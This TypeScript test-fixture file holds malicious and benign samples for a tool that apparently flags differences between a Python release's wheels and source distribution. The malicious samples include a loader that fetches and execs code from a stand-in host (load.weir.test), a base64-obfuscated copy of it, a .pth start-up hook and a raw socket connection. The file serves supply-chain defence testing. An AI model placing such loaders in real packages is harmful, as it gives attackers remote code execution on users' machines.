import type { Sample, Samples } from '../contract.ts';
import { at, hide, quiet, releaseContext, releaseFacts } from '../samples-kit.ts';
import { SDIST, sdist, WHEEL, wheel } from '../wheel-kit.ts';

const LINUX = 'acme-1.0-cp312-cp312-manylinux_2_17_x86_64.whl';
const MAC = 'acme-1.0-cp312-cp312-macosx_11_0_arm64.whl';
const INIT = 'from .core import add\n';
const CORE = { 'acme/__init__.py': INIT, 'acme/core.py': 'def add(a, b):\n    return a + b\n' };
/** Asks a host of its own for something and runs it; inert. */
const LOADER =
  'import urllib.request\n\nexec(urllib.request.urlopen("https://load.weir.test/x").read().decode())\n';
/** What would be told if the wheels were not the same. */
const CALLS = {
  ...CORE,
  'acme/core.py': `import subprocess\n${CORE['acme/core.py']}\nsubprocess.run(["weir-inert"])\n`,
};
/** Facts of a release whose first file came at a time, and this one on 20 November. */
function joined(releaseStartedAt: string) {
  return releaseContext(releaseFacts({ releaseStartedAt }), { name: 'weir-acme', ecosystem: 'pypi' });
}

const DAYS = 13 * 24;

function sample(part: Pick<Sample, 'name' | 'files' | 'expected'> & Partial<Sample>): Sample {
  return { filename: WHEEL, siblings: { [LINUX]: wheel(CORE), [MAC]: wheel(CORE) }, ...part };
}

export const samples: Samples = {
  malicious: [
    sample({
      name: 'one wheel whose start loads code',
      files: wheel({ ...CORE, 'acme/__init__.py': INIT + LOADER }),
      expected: [at('differs', 'high', 'acme/__init__.py', 1)],
    }),
    sample({
      name: 'a wheel that joins a clean sdist on day 13',
      siblings: {
        [SDIST]: sdist({ 'src/acme/__init__.py': INIT, 'src/acme/core.py': CORE['acme/core.py'] }),
      },
      lateHours: DAYS,
      files: wheel({
        ...CORE,
        'acme/core.py': `import subprocess\n${CORE['acme/core.py']}\nsubprocess.run(["weir-inert"])\n`,
      }),
      expected: [at('differs', 'high', 'acme/core.py', 1)],
    }),
    sample({
      name: 'start-up lines that no other wheel has',
      files: wheel({ ...CORE, 'acme-start.pth': 'import acme\n' }),
      expected: [at('added', 'medium', 'acme-start.pth', 1)],
    }),
    sample({
      name: 'a module that no other wheel has, which hides what it runs',
      files: wheel({
        ...CORE,
        'acme/__init__.py': `${INIT}from . import _extra\n`,
        'acme/_extra.py': `import base64\nexec(base64.b64decode("${hide(LOADER)}"))\n`,
      }),
      expected: [at('added', 'high', 'acme/_extra.py', 1)],
    }),
    sample({
      name: 'a source distribution whose module is not that of its wheels',
      filename: SDIST,
      files: sdist({
        ...CORE,
        'acme/core.py': `import socket\nsocket.create_connection(("198.51.100.7", 80))\n`,
      }),
      expected: [at('differs', 'medium', 'acme/core.py', 1)],
    }),
    sample({
      name: 'a wheel that came weeks later, as the registry says, to one that was seen at the same time',
      files: wheel({
        ...CORE,
        'acme/core.py': `import subprocess\n${CORE['acme/core.py']}\nsubprocess.run(["weir-inert"])\n`,
      }),
      context: joined('2026-11-01T12:00:00.000Z'),
      expected: [at('differs', 'high', 'acme/core.py', 1)],
    }),
    sample({
      name: 'a clean wheel after one whose start loads code',
      siblings: { [LINUX]: wheel({ ...CORE, 'acme/__init__.py': INIT + LOADER }) },
      files: wheel(CORE),
      expected: [at('lacks', 'medium', 'acme/__init__.py', 1)],
    }),
    sample({
      name: 'a clean wheel after one with a module more, which loads code',
      siblings: {
        [LINUX]: wheel({ ...CORE, 'acme/_extra.py': LOADER, 'acme-start.pth': 'import acme._extra\n' }),
      },
      files: wheel(CORE),
      expected: [at('lacks', 'medium', 'acme-start.pth', 1)],
    }),
  ],
  benign: [
    {
      ...quiet('sources that act where they are built, before their wheel', wheel(CORE)),
      filename: WHEEL,
      siblings: {
        [SDIST]: sdist({ ...CORE, 'setup.py': `${LOADER}import subprocess\nsubprocess.run(["true"])\n` }),
      },
    },
    {
      ...quiet(
        'a late wheel of a release that nobody saw before',
        wheel(CORE),
        joined('2026-11-01T12:00:00.000Z'),
      ),
      filename: WHEEL,
    },
    { ...quiet('the same code in every wheel', wheel(CORE)), ...siblings(wheel(CORE)) },
    {
      ...quiet('the same code with line ends of Windows', wheel(windows(CALLS))),
      ...siblings(wheel(CALLS)),
    },
    { ...quiet('and the other way round', wheel(CALLS)), ...siblings(wheel(windows(CALLS))) },
    {
      ...quiet(
        'a version file that is written when the wheel is built',
        wheel({
          ...CORE,
          'acme/_version.py': '__version__ = "1.0"\n',
        }),
      ),
      ...siblings(wheel(CORE)),
    },
    {
      ...quiet(
        'a loader of libraries that only the wheels for Windows have',
        wheel({
          ...CORE,
          'acme/__init__.py': `import os\n\nif hasattr(os, "add_dll_directory"):\n    os.add_dll_directory(os.path.dirname(__file__))\n${INIT}`,
        }),
      ),
      ...siblings(wheel(CORE)),
    },
    {
      ...quiet(
        'a module that is another one in each wheel',
        wheel({ ...CORE, 'acme/_config.py': 'import ctypes\nctypes.CDLL("a")\n' }),
      ),
      filename: WHEEL,
      siblings: {
        [LINUX]: wheel({ ...CORE, 'acme/_config.py': 'NAME = "linux"\n' }),
        [MAC]: wheel({ ...CORE, 'acme/_config.py': 'NAME = "mac"\n' }),
      },
    },
    {
      ...quiet(
        'sources with tests and tools that no wheel has',
        sdist({
          ...CORE,
          'setup.py':
            'from setuptools import setup\nimport subprocess\n\nsetup(name="acme", version="1.0", packages=["acme"])\n',
          'tests/test_core.py': 'import subprocess\nsubprocess.run(["true"])\n',
        }),
      ),
      filename: SDIST,
      siblings: { [LINUX]: wheel(CORE) },
    },
    {
      ...quiet('a wheel for another Python that comes a month later', wheel(CORE)),
      ...siblings(wheel(CORE)),
      lateHours: 30 * 24,
    },
  ],
};

function windows(files: Readonly<Record<string, string>>): Sample['files'] {
  return Object.fromEntries(
    Object.entries(files).map(([path, text]) => [path, text.replaceAll('\n', '\r\n')]),
  );
}

function siblings(files: Sample['files']): Pick<Sample, 'filename' | 'siblings'> {
  return { filename: WHEEL, siblings: { [LINUX]: files } };
}
